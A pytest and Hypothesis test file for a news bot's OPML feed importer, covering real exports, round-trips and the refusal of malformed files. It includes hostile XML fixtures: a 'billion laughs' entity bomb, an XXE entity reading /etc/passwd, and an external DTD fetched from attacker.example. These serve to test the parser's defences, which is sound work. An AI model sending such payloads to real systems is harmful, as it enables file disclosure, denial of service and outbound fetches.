"""Feed lists move in and out as OPML: real exports are read, hostile files are refused clearly."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.sources.opml import MAX_DEPTH, OpmlError, OpmlFeed, OpmlImport, parse_opml, render_opml

EXPORT = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="1.0">
  <head><title>My subscriptions</title></head>
  <body>
    <outline text="Tech" title="Tech">
      <outline type="rss" text="Ars" title="Ars Technica" xmlUrl="https://feeds.arstechnica.com/arstechnica/index"
               htmlUrl="https://arstechnica.com"/>
      <outline text="AI">
        <outline type="rss" text="Import AI" xmlurl="https://importai.substack.com/feed"/>
      </outline>
    </outline>
    <outline type="rss" text="Taipei Times" XMLURL="https://www.taipeitimes.com/xml/index.rss"
             category="/Asia/Taiwan,/Politics"/>
    <outline type="rss" text="No address"/>
    <outline type="rss" text="Gopher" xmlUrl="gopher://old.example.org/feed"/>
    <outline type="rss" text="Ars again" xmlUrl="https://feeds.arstechnica.com/arstechnica/index"/>
    <outline text="Empty folder"/>
  </body>
</opml>
"""


def test_an_exported_list_gives_its_feeds_with_folders_as_categories() -> None:
    result = parse_opml(EXPORT)
    assert result.title == "My subscriptions"
    assert result.feeds == [
        OpmlFeed(
            "https://feeds.arstechnica.com/arstechnica/index",
            "Ars Technica",
            "https://arstechnica.com",
            ("Tech",),
        ),
        OpmlFeed("https://importai.substack.com/feed", "Import AI", None, ("Tech", "AI")),
        OpmlFeed(
            "https://www.taipeitimes.com/xml/index.rss", "Taipei Times", None, ("Asia", "Taiwan", "Politics")
        ),
    ]
    assert result.feeds[2].topics == ("asia", "taiwan", "politics")


def test_each_bad_outline_is_reported_with_its_reason_beside_the_good_feeds() -> None:
    problems = [str(p) for p in parse_opml(EXPORT).problems]
    assert problems == [
        "outline 6 ('No address'): a feed outline without an xmlUrl: no feed address to follow",
        "outline 7 ('Gopher'): xmlUrl 'gopher://old.example.org/feed' is not an http(s) URL",
        "feed 'https://feeds.arstechnica.com/arstechnica/index': the same feed URL appears again; kept once",
    ]


def test_an_export_round_trips_through_render_and_parse() -> None:
    feeds = parse_opml(EXPORT).feeds
    text = render_opml(feeds, title="newsbot feeds")
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">')
    again = parse_opml(text.encode())
    assert again.title == "newsbot feeds"
    assert again.feeds == feeds
    assert again.problems == []


_NAME = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
    min_size=1,
    max_size=30,
).filter(lambda s: " ".join(s.split()) == s and s != "")
_URL = st.from_regex(r"\Ahttps?://[a-z0-9]{1,12}\.example/[A-Za-z0-9_./?=&-]{0,20}\Z")
_FEED = st.builds(
    OpmlFeed,
    url=_URL,
    title=st.none() | _NAME,
    html_url=st.none() | _URL,
    categories=st.lists(_NAME, max_size=3, unique=True).map(tuple),
)


@settings(max_examples=150, deadline=None)
@given(st.lists(_FEED, max_size=8, unique_by=lambda f: f.url), _NAME)
def test_any_feed_list_round_trips_apart_from_folder_order(feeds: list[OpmlFeed], title: str) -> None:
    result = parse_opml(render_opml(feeds, title=title).encode())
    assert sorted(result.feeds, key=lambda f: f.url) == sorted(feeds, key=lambda f: f.url)
    assert result.problems == []


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_any_bytes_give_an_import_or_a_clear_refusal(data: bytes) -> None:
    outcome = _import_or_error(data)
    if isinstance(outcome, OpmlError):
        assert outcome.reason
    else:
        assert all(f.url.startswith(("http://", "https://")) for f in outcome.feeds)


def _import_or_error(data: bytes) -> OpmlImport | OpmlError:
    try:
        return parse_opml(data)
    except OpmlError as exc:
        return exc


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=40), st.lists(st.text(max_size=20), max_size=3))
def test_rendering_any_title_or_folder_name_gives_a_file_that_reads_back(
    title: str, folders: list[str]
) -> None:
    feed = OpmlFeed("https://a.example/feed", title or None, None, tuple(folders))
    result = parse_opml(render_opml([feed], title=title).encode())
    assert [f.url for f in result.feeds] == ["https://a.example/feed"]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE opml [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<opml version="2.0"><head><title>&lol9;</title></head><body/></opml>
"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE opml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<opml version="2.0"><head><title>x</title></head>
<body><outline type="rss" text="&secret;" xmlUrl="https://a.example/feed"/></body></opml>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE opml SYSTEM "http://attacker.example/evil.dtd">
<opml version="2.0"><head><title>x</title></head><body/></opml>
"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE], ids=["billion laughs", "xxe"])
def test_an_opml_file_with_entity_tricks_is_refused_clearly(data: bytes) -> None:
    with pytest.raises(OpmlError, match="declares XML entities or external references"):
        parse_opml(data)


def test_an_external_dtd_is_never_fetched() -> None:
    # The loopback guard in tests/offline.py would fail the test if the parser reached for the URL.
    outcome = _import_or_error(EXTERNAL_DTD)
    if isinstance(outcome, OpmlError):
        assert "external references" in outcome.reason
    else:
        assert outcome.feeds == []


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "the file is empty"),
        (b"<opml><body><outline", "not well-formed XML at line 1"),
        (b"<rss version='2.0'><channel/></rss>", "the root element is <rss>, not <opml>"),
        (b"<opml version='2.0'><head/></opml>", "the file has no <body>"),
        (b"<opml>" + b" " * 1_000_001 + b"</opml>", "larger than 1 MB"),
    ],
    ids=["empty", "broken xml", "a feed, not opml", "no body", "too large"],
)
def test_a_file_that_is_not_opml_is_refused_with_its_reason(data: bytes, reason: str) -> None:
    with pytest.raises(OpmlError) as caught:
        parse_opml(data)
    assert reason in caught.value.reason


def test_folders_nested_absurdly_deep_are_cut_off_with_a_problem_not_a_crash() -> None:
    depth = 5_000
    data = (
        b"<opml version='2.0'><body>"
        + b"<outline text='f'>" * depth
        + b"<outline type='rss' xmlUrl='https://deep.example/feed'/>"
        + b"</outline>" * depth
        + b"<outline type='rss' text='ok' xmlUrl='https://ok.example/feed'/></body></opml>"
    )
    result = parse_opml(data)
    assert [f.url for f in result.feeds] == ["https://ok.example/feed"]
    assert [p.reason for p in result.problems] == [
        f"outlines nested more than {MAX_DEPTH} deep; the ones inside were skipped"
    ]
